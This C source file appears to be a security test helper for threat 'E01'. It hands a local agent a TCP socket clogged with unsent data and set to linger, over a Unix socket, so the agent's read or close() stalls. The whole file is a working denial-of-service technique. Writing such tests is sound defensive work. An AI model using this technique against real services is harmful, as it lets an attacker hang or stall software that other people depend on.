/* A lingering TCP socket attached to bytes sent to the agent: whoever closes it waits (threat E01).
 *
 *   linger SOCK SECONDS COUNT read|queue
 *
 * `read`: one message with a preface, then one with the bomb: the agent's read meets it.
 * `queue`: the bomb comes before anything is read, so that it waits in the queue for the agent's close().
 * Prints `sent ok` or `sent ERROR` for each bomb; keeps the connections until "go".
 */
#include "common.h"
#include <arpa/inet.h>
#include <netinet/in.h>

/* A TCP socket with unsent bytes and SO_LINGER. */
static int bomb(int seconds) {
    int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), small = 2048;
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t size = sizeof address;
    setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    if (bind(listener, (void *)&address, sizeof address) || listen(listener, 1)) die("listen");
    getsockname(listener, (void *)&address, &size);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (connect(fd, (void *)&address, sizeof address)) die("connect");
    if (accept(listener, NULL, NULL) < 0) die("accept"); /* kept open, never read */
    static char block[65536];
    fcntl(fd, F_SETFL, O_NONBLOCK);
    while (write(fd, block, sizeof block) > 0) continue;
    fcntl(fd, F_SETFL, 0);
    struct linger linger = {1, seconds};
    setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof linger);
    close(listener);
    return fd;
}

static void send_bomb(int sock, const char *bytes, size_t n, int seconds) {
    int fd = bomb(seconds);
    char control[CMSG_SPACE(sizeof fd)] = {0};
    struct iovec data = {(char *)bytes, n};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control,
                             .msg_controllen = sizeof control};
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    head->cmsg_level = SOL_SOCKET;
    head->cmsg_type = SCM_RIGHTS;
    head->cmsg_len = CMSG_LEN(sizeof fd);
    memcpy(CMSG_DATA(head), &fd, sizeof fd);
    ssize_t sent = sendmsg(sock, &message, MSG_NOSIGNAL);
    say("sent %s", sent < 0 ? strerror(errno) : "ok");
    /* A bomb that was refused would go off in our own hands. */
    struct linger off = {1, 0};
    if (sent < 0) setsockopt(fd, SOL_SOCKET, SO_LINGER, &off, sizeof off);
    close(fd); /* the agent's reference is now the last */
}

int main(int argc, char **argv) {
    if (argc < 5) return 2;
    int seconds = atoi(argv[2]), count = atoi(argv[3]), queued = !strcmp(argv[4], "queue");
    die_with_parent();
    for (int i = 0; i < count; i++) {
        int sock = connect_to(argv[1]);
        if (!queued) { write_all(sock, H2_OPEN, H2_PREFACE_LENGTH); sleep_ms(50); }
        send_bomb(sock, queued ? H2_OPEN : H2_OPEN + H2_PREFACE_LENGTH,
                  queued ? H2_OPEN_LENGTH : H2_OPEN_LENGTH - H2_PREFACE_LENGTH, seconds);
    }
    say("armed");
    wait_go();
    return 0;
}
